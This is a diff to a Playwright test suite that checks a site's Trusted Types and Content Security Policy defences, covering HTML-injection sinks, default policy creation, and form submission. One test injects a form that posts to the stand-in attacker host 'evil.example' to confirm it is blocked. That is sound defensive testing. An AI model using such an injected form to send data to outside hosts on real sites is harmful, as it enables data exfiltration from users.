@@ -73,15 +73,58 @@ test.describe('in the browser', { tag: '@readonly' }, () => {
       expect(await page.evaluate(() => 'injected' in window)).toBe(false)
     })
 
+  for (const [path, outcome] of [
+    ...[...PAGES, '/nope'].map((page) => [page, 'refused'] as const),
+    ['/about?translate', 'the translator needs it'],
+  ] as const)
+    test(`a script that makes HTML from a string, in ${path}: ${outcome}`, async ({ page }) => {
+      await page.goto(path)
+      const outcomes = await page.evaluate(() => {
+        const element = document.createElement('p')
+        const frame = document.createElement('iframe')
+        const sinks = [
+          () => (element.innerHTML = '<b></b>'),
+          () => element.insertAdjacentHTML('beforeend', '<b></b>'),
+          () => (frame.srcdoc = '<b></b>'),
+          () => (document.createElement('script').src = '/assets/x.js'),
+          () => new DOMParser().parseFromString('<b></b>', 'text/html'),
+        ]
+        return sinks.map((sink) => {
+          try {
+            sink()
+            return 'the translator needs it'
+          } catch (error) {
+            return error instanceof TypeError ? 'refused' : String(error)
+          }
+        })
+      })
+      expect(outcomes).toEqual(Array(5).fill(outcome))
+    })
+
+  test('no script may declare itself trusted', async ({ page }) => {
+    await page.goto('/about')
+    const declared = await page.evaluate(() => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
+      }
+      try {
+        trustedTypes.createPolicy('default', { createHTML: (text: string) => text })
+        return 'admitted'
+      } catch {
+        return 'refused'
+      }
+    })
+    expect(declared).toBe('refused')
+  })
+
   test('a form that is injected cannot send anything anywhere', async ({ page }) => {
     const found = await violations(page)
     await page.goto('/about')
     await page.evaluate(() => {
-      document.body.insertAdjacentHTML(
-        'beforeend',
-        '<form id="injected" action="https://evil.example/"></form>',
-      )
-      document.querySelector<HTMLFormElement>('#injected')?.submit()
+      const form = document.createElement('form')
+      form.action = 'https://evil.example/'
+      document.body.append(form)
+      form.submit()
     })
     await expect.poll(() => found.some((text) => text.startsWith('form-action'))).toBe(true)
     expect(page.url()).toBe(new URL('/about', BASE_URL).href)
